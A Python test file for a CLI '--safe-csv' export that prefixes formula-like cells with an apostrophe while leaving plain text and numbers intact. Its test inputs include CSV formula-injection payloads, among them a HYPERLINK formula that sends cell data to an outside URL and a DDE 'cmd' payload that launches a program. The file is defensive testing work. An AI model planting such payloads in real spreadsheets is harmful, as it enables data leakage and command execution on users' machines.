"""``predict --safe-csv``: no cell begins a formula, numbers stay numbers, the rest reads back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trickrun.cli.scoring import for_spreadsheet, write_csv

STARTS = "=+-@\t\r\n"
FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "--1",
    "-",
    "-inf",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
PLAIN = ["apple", "", "a=b", "'=1", " =1", "1-2", "résumé"]
NUMBERS = ["-1", "+1", "-0.5", "-.5", "+3.", "-1e-7", "-1.5E+3"]


def read_back(row: dict[str, object]) -> list[list[str]]:
    """Write a row as ``predict`` does; return its names and its cells as a reader gets them."""
    file = io.StringIO(newline="")
    write_csv(file, [for_spreadsheet(row)])
    file.seek(0)
    return list(csv.reader(file))


@pytest.mark.parametrize("text", FORMULAS)
def test_an_apostrophe_comes_before_a_formula_in_cells_and_names(text):
    assert read_back({text: text}) == [[f"'{text}"], [f"'{text}"]]


@pytest.mark.parametrize("text", [*PLAIN, *NUMBERS])
def test_other_text_stays_as_it_is(text):
    assert read_back({f"x{text}": text, "y": 1}) == [[f"x{text}", "y"], [text, "1"]]


def test_numbers_stay_numbers():
    row = {"negative": -0.125, "whole": -3, "tiny": -1e-300, "infinite": float("-inf")}
    assert for_spreadsheet(row) == row


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, unique=True))
def test_only_apostrophes_are_added(cells):
    _, read = read_back({f"x{place}": cell for place, cell in enumerate(cells)})
    for cell, safe in zip(cells, read, strict=True):
        assert safe in (cell, f"'{cell}")
        if safe[:1] in tuple(STARTS):
            float(safe)  # a signed number
